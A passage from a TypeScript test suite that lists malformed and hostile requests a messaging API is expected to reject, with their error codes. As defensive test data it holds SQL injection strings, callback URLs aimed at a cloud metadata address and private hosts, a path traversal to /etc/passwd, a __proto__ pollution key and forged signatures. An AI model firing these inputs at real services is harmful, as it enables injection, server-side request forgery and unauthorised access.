    "/v1/account/webhook_secret/roll",
    { status: 400, code: "idempotency_key_invalid" },
    {
      headers: { "Idempotency-Key": "r".repeat(256) },
    },
  ),
  request("GET /v1/account/webhook_secret/roll", "GET", "/v1/account/webhook_secret/roll", { status: 405, code: "method_not_allowed" }),
  request("PUT /v1/account", "PUT", "/v1/account", { status: 405, code: "method_not_allowed" }, { body: { json: { name: "x" } } }),
];

// ---------------------------------------------------------------- /v1/api_keys

const validKeyId = `key_${"0".repeat(32)}`;
const createKey = (name: string, body: Body, expected: Expected): BadRequest =>
  request(`POST /v1/api_keys: ${name}`, "POST", "/v1/api_keys", expected, { body });
const rollKey = (name: string, body: Body, expected: Expected): BadRequest =>
  request(`POST /v1/api_keys/:id/roll: ${name}`, "POST", `/v1/api_keys/${validKeyId}/roll`, expected, { body });

const apiKeyCases: BadRequest[] = [
  createKey("no name", { json: {} }, invalid("name")),
  createKey("an empty name", { json: { name: "  " } }, invalid("name")),
  createKey("a name over 100 characters", { json: { name: "n".repeat(101) } }, invalid("name")),
  createKey("a name with a line break", { json: { name: "a\r\nb" } }, invalid("name")),
  createKey("a name that is a number", { json: { name: 7 } }, invalid("name")),
  createKey("an unknown permission", { json: { name: "k", permission: "admin" } }, invalid("permission")),
  createKey("a chosen secret", { json: { name: "k", secret: "sk_test_v2_mine" } }, unknownParam("secret")),
  createKey("a chosen mode", { form: "name=k&mode=live" }, unknownParam("mode")),
  ...INJECTIONS.map((value) => createKey(`an injection as permission: ${value}`, { json: { name: "k", permission: value } }, invalid("permission"))),
  rollKey("an overlap over a day", { json: { expires_in: 86_401 } }, invalid("expires_in")),
  rollKey("a negative overlap", { json: { expires_in: -1 } }, invalid("expires_in")),
  rollKey("a fractional overlap", { json: { expires_in: 0.5 } }, invalid("expires_in")),
  rollKey("an overlap in words", { form: "expires_in=1h" }, invalid("expires_in")),
  rollKey("an unknown field", { json: { expires_at: 1 } }, unknownParam("expires_at")),
  rollKey("an unknown key", { json: {} }, notFound),
  request("GET /v1/api_keys?limit=0", "GET", "/v1/api_keys?limit=0", invalid("limit")),
  request("GET /v1/api_keys with a message cursor", "GET", `/v1/api_keys?cursor=${b64url(JSON.stringify({ id: validId, dir: "next" }))}`, invalid("cursor")),
  request("GET an unknown key", "GET", `/v1/api_keys/${validKeyId}`, notFound),
  request("GET a key id over 64 characters", "GET", `/v1/api_keys/key_${"0".repeat(70)}`, invalid("id")),
  ...INJECTIONS.map((value) => request(`GET a key by an injection: ${value}`, "GET", `/v1/api_keys/${encodeURIComponent(value)}`, notFound)),
  request("DELETE an unknown key", "DELETE", `/v1/api_keys/${validKeyId}`, notFound),
  request("DELETE /v1/api_keys", "DELETE", "/v1/api_keys", { status: 405, code: "method_not_allowed" }),
  request("PATCH /v1/api_keys/:id", "PATCH", `/v1/api_keys/${validKeyId}`, { status: 405, code: "method_not_allowed" }, { body: { json: { name: "x" } } }),
  request("POST /v1/messages/:id/webhook/retry for an unknown message", "POST", `/v1/messages/${validId}/webhook/retry`, notFound),
  request("GET /v1/messages/:id/webhook/retry", "GET", `/v1/messages/${validId}/webhook/retry`, { status: 405, code: "method_not_allowed" }),
];

// ---------------------------------------------------------------- provider receipts (public, signed)

const invalidSignature: Expected = { status: 401, code: "invalid_signature" };
const twilioForm = "MessageSid=SM123&MessageStatus=delivered";
const receiptCases: BadRequest[] = [
  request("Twilio receipt without a signature", "POST", `/v1/providers/twilio/status?message_id=${validId}`, invalidSignature, {
    authorization: null,
    body: { form: twilioForm },
  }),
  request("Twilio receipt with a wrong signature", "POST", "/v1/providers/twilio/status", invalidSignature, {
    authorization: null,
    body: { form: twilioForm },
    headers: { "X-Twilio-Signature": "bm90IGEgc2lnbmF0dXJl" },
  }),
  request("Twilio receipt with an injection as body", "POST", "/v1/providers/twilio/status", invalidSignature, {
    authorization: null,
    body: { form: "' OR 1=1 --" },
  }),
  request(
    "WhatsApp handshake with a wrong token",
    "GET",
    "/v1/providers/whatsapp/webhook?hub.mode=subscribe&hub.verify_token=guess&hub.challenge=1",
    invalidSignature,
    {
      authorization: null,
    },
  ),
  request(
    "WhatsApp handshake with a wrong mode",
    "GET",
    "/v1/providers/whatsapp/webhook?hub.mode=unsubscribe&hub.verify_token=whatsapp-verify-token",
    invalidSignature,
    {
      authorization: null,
    },
  ),
  request("WhatsApp receipt without a signature", "POST", "/v1/providers/whatsapp/webhook", invalidSignature, {
    authorization: null,
    body: { json: { entry: [] } },
  }),
  request("WhatsApp receipt with a wrong signature", "POST", "/v1/providers/whatsapp/webhook", invalidSignature, {
    authorization: null,
    body: { raw: "{", contentType: "application/json" },
    headers: { "X-Hub-Signature-256": `sha256=${"0".repeat(64)}` },
  }),
  request("Resend receipt without Svix headers", "POST", "/v1/providers/resend/webhook", invalidSignature, {
    authorization: null,
    body: { json: { type: "email.delivered" } },
  }),
  request("Resend receipt with a wrong signature", "POST", "/v1/providers/resend/webhook", invalidSignature, {
    authorization: null,
    body: { json: { type: "email.delivered" } },
    headers: { "svix-id": "msg_1", "svix-timestamp": String(Math.floor(Date.now() / 1000)), "svix-signature": "v1,bm90IGEgc2lnbmF0dXJl" },
  }),
  request("Resend receipt with a stale timestamp", "POST", "/v1/providers/resend/webhook", invalidSignature, {
    authorization: null,
    body: { json: { type: "email.delivered" } },
    headers: { "svix-id": "msg_1", "svix-timestamp": "1", "svix-signature": "v1,bm90IGEgc2lnbmF0dXJl" },
  }),
];

// ---------------------------------------------------------------- suppressions, inbound replies, inbound_callback

const suppressionBody = (overrides: Record<string, unknown> = {}) => ({ json: { channel: "sms", address: "+14155550123", ...overrides } });
const createSuppression = (name: string, body: Body, expected: Expected, extra: Partial<BadRequest> = {}): BadRequest =>
  request(`POST /v1/suppressions: ${name}`, "POST", "/v1/suppressions", expected, { body, ...extra });
const validSuppressionId = `sup_${"0".repeat(32)}`;
const replyBody = (overrides: Record<string, unknown> = {}) => ({
  json: { channel: "sms", from: "+14155550123", to: "+15005550006", text: "STOP", ...overrides },
});
const reply = (name: string, body: Body, expected: Expected): BadRequest =>
  request(`POST /v1/test_helpers/inbound_messages: ${name}`, "POST", "/v1/test_helpers/inbound_messages", expected, { body });
const updateAccount = (name: string, body: Body, expected: Expected): BadRequest =>
  request(`POST /v1/account: ${name}`, "POST", "/v1/account", expected, { body });

const consentCases: BadRequest[] = [
  createSuppression("truncated JSON", { raw: '{"channel":"sms","address":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  createSuppression("JSON null", { json: null }, { status: 400, code: "invalid_body" }),
  createSuppression("XML", { raw: "<s><channel>sms</channel></s>", contentType: "application/xml" }, { status: 415, code: "unsupported_media_type" }),
  createSuppression("an empty body", { json: {} }, invalid("channel")),
  createSuppression("form __proto__ key", { form: "channel=sms&address=%2B14155550123&__proto__[admin]=1" }, unknownParam("__proto__[admin]")),
  ...[null, 1, "", "fax", "ＳＭＳ"].map((value) =>
    createSuppression(`channel ${JSON.stringify(value)}`, suppressionBody({ channel: value }), invalid("channel")),
  ),
  ...[null, 14155550123, "", "4155550123", "+1", "omni_verify", "+1 415 555 0123 ext. 9", "a".repeat(321)].map((value) =>
    createSuppression(`address ${JSON.stringify(value).slice(0, 40)}`, suppressionBody({ address: value }), invalid("address")),
  ),
  ...["ana@", "+14155550123", "Ana <ana@example.com>"].map((value) =>
    createSuppression(`email address ${value}`, suppressionBody({ channel: "email", address: value }), invalid("address")),
  ),
  ...[null, "", "bounce", "OPT_OUT", "unsubscribed"].map((value) =>
    createSuppression(`reason ${JSON.stringify(value)}`, suppressionBody({ reason: value }), invalid("reason")),
  ),
  createSuppression("source_message_id (set by OmniFlow only)", suppressionBody({ source_message_id: validId }), unknownParam("source_message_id")),
  ...ODD_CHARACTERS.map(([what, char]) => createSuppression(`address with ${what}`, suppressionBody({ address: `+1415555${char}0123` }), invalid("address"))),
  ...INJECTIONS.map((value) => createSuppression(`injection in address: ${value}`, suppressionBody({ address: value }), invalid("address"))),
  request("GET /v1/suppressions with a bad reason", "GET", "/v1/suppressions?reason=bounce", invalid("reason")),
  request("GET /v1/suppressions with a bad channel", "GET", "/v1/suppressions?channel=fax", invalid("channel")),
  request("GET /v1/suppressions with a bad address", "GET", "/v1/suppressions?address=abc", invalid("address")),
  request(
    "GET /v1/suppressions with a message cursor",
    "GET",
    `/v1/suppressions?cursor=${b64url(JSON.stringify({ id: validId, dir: "next" }))}`,
    invalid("cursor"),
  ),
  request("GET /v1/suppressions with a message filter", "GET", "/v1/suppressions?status=queued", unknownParam("status")),
  request("GET an unknown suppression", "GET", `/v1/suppressions/${validSuppressionId}`, notFound),
  request("GET a suppression id over 64 characters", "GET", `/v1/suppressions/sup_${"0".repeat(70)}`, invalid("id")),
  request("DELETE an unknown suppression", "DELETE", `/v1/suppressions/${validSuppressionId}`, notFound),
  request("DELETE a message id as a suppression", "DELETE", `/v1/suppressions/${validId}`, notFound),
  request(
    "PATCH /v1/suppressions/:id",
    "PATCH",
    `/v1/suppressions/${validSuppressionId}`,
    { status: 405, code: "method_not_allowed" },
    { body: suppressionBody() },
  ),
  ...INJECTIONS.map((value) => request(`GET a suppression by an injection: ${value}`, "GET", `/v1/suppressions/${encodeURIComponent(value)}`, notFound)),

  reply("an empty body", { json: {} }, invalid("channel")),
  reply("channel email", replyBody({ channel: "email" }), invalid("channel")),
  reply("from not a number", replyBody({ from: "ana@example.com" }), invalid("from")),
  reply("to not a number", replyBody({ to: "omni_verify" }), invalid("to")),
  reply("to not one of the account's senders", replyBody({ to: "+14155550100" }), { status: 400, code: "resource_missing", param: "to" }),
  reply("empty text", replyBody({ text: "" }), invalid("text")),
  reply("sms text over 1,600 characters", replyBody({ text: "x".repeat(1601) }), invalid("text")),
  reply("text as a number", replyBody({ text: 5 }), invalid("text")),
  reply("an unknown field", replyBody({ media_url: "https://x.example/a.png" }), unknownParam("media_url")),
  ...ODD_CHARACTERS.map(([what, char]) => reply(`from with ${what}`, replyBody({ from: `+1415555${char}0123` }), invalid("from"))),
  ...INJECTIONS.map((value) => reply(`injection in from: ${value}`, replyBody({ from: value }), invalid("from"))),

  updateAccount("an unknown field", { json: { name: "renamed" } }, unknownParam("name")),
  updateAccount("inbound_callback not a URL", { json: { inbound_callback: "your-app.com/inbound" } }, invalid("inbound_callback")),
  updateAccount(
    "inbound_callback to a metadata address",
    { json: { inbound_callback: "http://169.254.169.254/latest/meta-data" } },
    invalid("inbound_callback"),
  ),
  updateAccount("inbound_callback to a private address", { json: { inbound_callback: "http://10.0.0.1/inbound" } }, invalid("inbound_callback")),
  updateAccount("inbound_callback to an internal name", { json: { inbound_callback: "http://inbound.internal/x" } }, invalid("inbound_callback")),
  updateAccount("inbound_callback with credentials", { json: { inbound_callback: "https://user:pass@your-app.com/x" } }, invalid("inbound_callback")),
  updateAccount("inbound_callback as a number", { json: { inbound_callback: 1 } }, invalid("inbound_callback")),
  updateAccount(
    "inbound_callback over 2,048 characters",
    { json: { inbound_callback: `https://your-app.com/${"a".repeat(2048)}` } },
    invalid("inbound_callback"),
  ),
  ...INJECTIONS.map((value) => updateAccount(`injection in inbound_callback: ${value}`, { json: { inbound_callback: value } }, invalid("inbound_callback"))),

  request("Twilio inbound message without a signature", "POST", "/v1/providers/twilio/inbound", invalidSignature, {
    authorization: null,
    body: { form: "From=%2B14155550123&To=%2B15005550006&Body=STOP&MessageSid=SM1" },
  }),
  request("Twilio inbound message with a wrong signature", "POST", "/v1/providers/twilio/inbound", invalidSignature, {
    authorization: null,
    body: { form: "From=%2B14155550123&To=%2B15005550006&Body=STOP&MessageSid=SM1" },
    headers: { "X-Twilio-Signature": "bm90IGEgc2lnbmF0dXJl" },
  }),
];

// ---------------------------------------------------------------- max_segments and previews

const maxSegmentsCases: BadRequest[] = [
  ...[0, 11, -1, 1.5, 1e9, "0", "11", "two", "", " 2", "1e1", "0x2", null, true, [], [2], {}, ...INJECTIONS].map((value) =>
    create(`max_segments ${JSON.stringify(value).slice(0, 40)}`, withField("max_segments", value), invalid("max_segments")),
  ),
  create("max_segments=0 in a form", { form: "channel=SMS&to=%2B14155550123&content[text]=hi&max_segments=0" }, invalid("max_segments")),
  create("max_segments[]=1 in a form", { form: "channel=SMS&to=%2B14155550123&content[text]=hi&max_segments[]=1" }, invalid("max_segments")),
  create("161 GSM-7 characters under max_segments 1", withContent({ text: "a".repeat(161) }, { max_segments: 1 }), invalid("content", "max_segments_exceeded")),
  create("71 UCS-2 characters under max_segments 1", withContent({ text: "Ж".repeat(71) }, { max_segments: 1 }), invalid("content", "max_segments_exceeded")),
  create("1,600 characters under max_segments 10", withContent({ text: "a".repeat(1600) }, { max_segments: 10 }), invalid("content", "max_segments_exceeded")),
];

const previewMessage = (name: string, body: Body, expected: Expected): BadRequest =>
  request(`POST /v1/messages/preview: ${name}`, "POST", "/v1/messages/preview", expected, { body });
const previewTemplate = (name: string, id: string, body: Body, expected: Expected): BadRequest =>
  request(`POST /v1/templates/${id.slice(0, 40)}/preview: ${name}`, "POST", `/v1/templates/${id}/preview`, expected, { body });
const existingPreview = (name: string, body: Body, expected: Expected) => previewTemplate(name, EXISTING_TEMPLATE.id, body, expected);

const previewCases: BadRequest[] = [
  previewMessage("truncated JSON", { raw: '{"channel":"SMS","to":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  previewMessage("text/plain", { raw: JSON.stringify(smsBody()), contentType: "text/plain" }, { status: 415, code: "unsupported_media_type" }),
  previewMessage("a body over 35 MiB", withContent({ text: "x".repeat(MAX_MEDIA_BODY_BYTES) }), { status: 413, code: "media_too_large", param: "content" }),
  previewMessage("a form nesting bomb", { form: `channel=SMS&content${"[a]".repeat(50)}=x` }, { status: 400, code: "invalid_form_body" }),
  previewMessage("no channel", withField("channel", undefined), invalid("channel")),
  previewMessage("to not a number", withField("to", "not-a-number"), invalid("to")),
  previewMessage("an unknown field", withField("priority", "high"), unknownParam("priority")),
  previewMessage("an unknown content field", withContent({ text: "hi", foo: 1 }), unknownParam("content[foo]")),
  previewMessage("a template that does not exist", withContent({ template_id: "nope", variables: {} }), invalid("content[template_id]", "resource_missing")),
  previewMessage("a private status_callback", withField("status_callback", "http://169.254.169.254/latest"), invalid("status_callback")),
  previewMessage("max_segments 0", withField("max_segments", 0), invalid("max_segments")),
  previewMessage("a text longer than max_segments", withContent({ text: "a".repeat(161) }, { max_segments: 1 }), invalid("content", "max_segments_exceeded")),
  ...INJECTIONS.map((value) => previewMessage(`to ${value}`, withField("to", value), invalid("to"))),
  request("DELETE /v1/messages/preview", "DELETE", "/v1/messages/preview", { status: 405, code: "method_not_allowed" }),

  previewTemplate("an unknown template", "nope", { json: { variables: {} } }, notFound),
  previewTemplate("an id over 64 characters", "t".repeat(65), { json: { variables: {} } }, invalid("id")),
  ...INJECTIONS.map((value) => previewTemplate("an injection as the id", encodeURIComponent(value), { json: { variables: {} } }, { status: 404 })),
  existingPreview("truncated JSON", { raw: '{"variables":', contentType: "application/json" }, { status: 400, code: "invalid_json" }),
  existingPreview("text/plain", { raw: '{"variables":{}}', contentType: "text/plain" }, { status: 415, code: "unsupported_media_type" }),
  existingPreview("a form nesting bomb", { form: `variables${"[a]".repeat(50)}=x` }, { status: 400, code: "invalid_form_body" }),
  existingPreview("a missing variable", { json: { variables: {} } }, invalid("variables[code]", "parameter_missing")),
  existingPreview("a variable no body uses", { json: { variables: { code: "1", coed: "2" } } }, unknownParam("variables[coed]")),
  existingPreview("an unknown field", { json: { variables: { code: "1" }, to: "+14155550123" } }, unknownParam("to")),
  existingPreview("a channel without a body", { json: { variables: { code: "1" }, channel: "EMAIL" } }, invalid("channel")),
  ...[null, 42, "", "FAX", ["SMS"]].map((value) =>
    existingPreview(`channel ${JSON.stringify(value)}`, { json: { variables: { code: "1" }, channel: value } }, invalid("channel")),
  ),
  ...[null, 42, "code=1", ["1"]].map((value) => existingPreview(`variables ${JSON.stringify(value)}`, { json: { variables: value } }, invalid("variables"))),
  existingPreview("a variable over 1,024 characters", { json: { variables: { code: "1".repeat(1025) } } }, invalid("variables[code]")),
  existingPreview("a variable that is an object", { json: { variables: { code: { a: 1 } } } }, invalid("variables[code]")),
  existingPreview("51 variables", { json: { variables: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`v${i}`, "x"])) } }, invalid("variables")),
];

// ---------------------------------------------------------------- routing and auth (every endpoint)

const unauthorized = (code: string): Expected => ({ status: 401, code });
const ENDPOINTS: [string, string, Body?][] = [
  ["POST", "/v1/messages", { json: smsBody() }],
  ["POST", "/v1/messages/preview", { json: smsBody() }],
  ["POST", "/v1/templates/auth_otp/preview", { json: { variables: {} } }],
  ["GET", "/v1/messages"],
  ["GET", `/v1/messages/${validId}`],
  ["GET", `/v1/messages/${validId}/events`],
  ["POST", "/v1/templates", templateBody()],
  ["GET", "/v1/templates"],
  ["GET", "/v1/templates/auth_otp"],
  ["POST", "/v1/templates/auth_otp", { json: { sms: { text: "hi" } } }],
  ["DELETE", "/v1/templates/auth_otp"],
  ["POST", "/v1/senders", senderBody()],
  ["GET", "/v1/senders"],
  ["GET", `/v1/senders/${validSenderId}`],
  ["DELETE", `/v1/senders/${validSenderId}`],
  ["GET", "/v1/account"],
  ["POST", "/v1/account/webhook_secret/roll"],
  ["POST", "/v1/api_keys", { json: { name: "k" } }],
  ["GET", "/v1/api_keys"],
  ["GET", `/v1/api_keys/${validKeyId}`],
  ["DELETE", `/v1/api_keys/${validKeyId}`],
  ["POST", `/v1/api_keys/${validKeyId}/roll`, { json: {} }],
  ["POST", `/v1/messages/${validId}/webhook/retry`],
  ["POST", "/v1/suppressions", suppressionBody()],
  ["GET", "/v1/suppressions"],
  ["GET", `/v1/suppressions/${validSuppressionId}`],
  ["DELETE", `/v1/suppressions/${validSuppressionId}`],
  ["POST", "/v1/account", { json: { inbound_callback: "https://your-app.com/inbound" } }],
  ["POST", "/v1/test_helpers/inbound_messages", replyBody()],
  ["POST", `/v1/messages/${validId}/redact`],
  ["GET", "/v1/geo_permissions"],
  ["POST", "/v1/geo_permissions", { json: { countries: { NG: "allowed" } } }],
];
const BAD_AUTHORIZATIONS: [string, string | null, string][] = [
  ["no Authorization header", null, "missing_api_key"],
  ["Basic without credentials", "Basic", "malformed_authorization"],
  ["Basic with invalid base64", "Basic !!!not-base64", "malformed_authorization"],
  ["an empty Bearer", "Bearer ", "malformed_authorization"],
  ["an unknown scheme", "Token sk_test_v2_abc", "malformed_authorization"],
  ["a key of the wrong shape", "Bearer sk_test_v2_short", "invalid_api_key"],
  ["an unknown key", `Bearer sk_test_v2_${"0".repeat(48)}`, "invalid_api_key"],
  ["an unknown live key", `Bearer sk_live_v2_${"f".repeat(48)}`, "invalid_api_key"],
  ["an injection as the key", "Bearer '||(SELECT(1))--", "invalid_api_key"],
  ["text after the key", "Bearer sk_test_v2_abc ' OR 1=1 --", "malformed_authorization"],
  ["a huge header", `Bearer ${"k".repeat(8000)}`, "invalid_api_key"],
];

const authCases: BadRequest[] = ENDPOINTS.flatMap(([method, path, body]) =>
  BAD_AUTHORIZATIONS.map(([what, authorization, code]) => request(`${method} ${path}: ${what}`, method, path, unauthorized(code), { authorization, body })),
);

const routingCases: BadRequest[] = [
  request("DELETE /v1/messages", "DELETE", "/v1/messages", { status: 405, code: "method_not_allowed" }),
  request("PUT /v1/templates/:id", "PUT", "/v1/templates/auth_otp", { status: 405, code: "method_not_allowed" }, { body: templateBody() }),
  request("PATCH /v1/senders/:id", "PATCH", `/v1/senders/${validSenderId}`, { status: 405, code: "method_not_allowed" }, { body: senderBody() }),
  request("DELETE /v1/templates", "DELETE", "/v1/templates", { status: 405, code: "method_not_allowed" }),
  request("PUT /v1/messages", "PUT", "/v1/messages", { status: 405, code: "method_not_allowed" }, { body: { json: smsBody() } }),
  request(
    "PATCH /v1/messages/:id",
    "PATCH",
    `/v1/messages/${validId}`,
    { status: 405, code: "method_not_allowed" },
    { body: { json: { status: "delivered" } } },
  ),
  request("DELETE /v1/messages/:id", "DELETE", `/v1/messages/${validId}`, { status: 405, code: "method_not_allowed" }),
  request("POST /v1/messages/:id", "POST", `/v1/messages/${validId}`, { status: 405, code: "method_not_allowed" }, { body: { json: smsBody() } }),
  request("POST /healthz", "POST", "/healthz", { status: 405, code: "method_not_allowed" }, { body: { json: {} } }),
  request("an unknown resource", "GET", "/v1/charges", { status: 404, code: "route_not_found" }),
  request("an unknown version", "POST", "/v2/messages", { status: 404, code: "route_not_found" }, { body: { json: smsBody() } }),
  request("a path traversal", "GET", "/v1/messages/../../etc/passwd", { status: 404 }),
  request("a double slash", "POST", "//v1/messages", { status: 404 }, { body: { json: smsBody() } }),
];

export const CORPUS: BadRequest[] = [
  ...brokenBodies,
  ...wrongTypes,
  ...oddStrings,
  ...injections,
  ...badIdempotencyKeys,
  ...deliveryControlCases,
  ...listCases,
  ...retrieveCases,
  ...eventsCases,
  ...templateCases,
  ...senderCases,
  ...accountCases,
  ...apiKeyCases,
  ...receiptCases,
  ...consentCases,
  ...maxSegmentsCases,
  ...previewCases,
  ...authCases,
  ...routingCases,
  ...GEO_RETENTION_CORPUS,
  ...MEDIA_CORPUS,
  ...PRICE_CORPUS,
  ...VERIFICATION_CORPUS,
  ...WEBHOOK_ENDPOINT_CORPUS,
  ...BATCH_CORPUS,
];
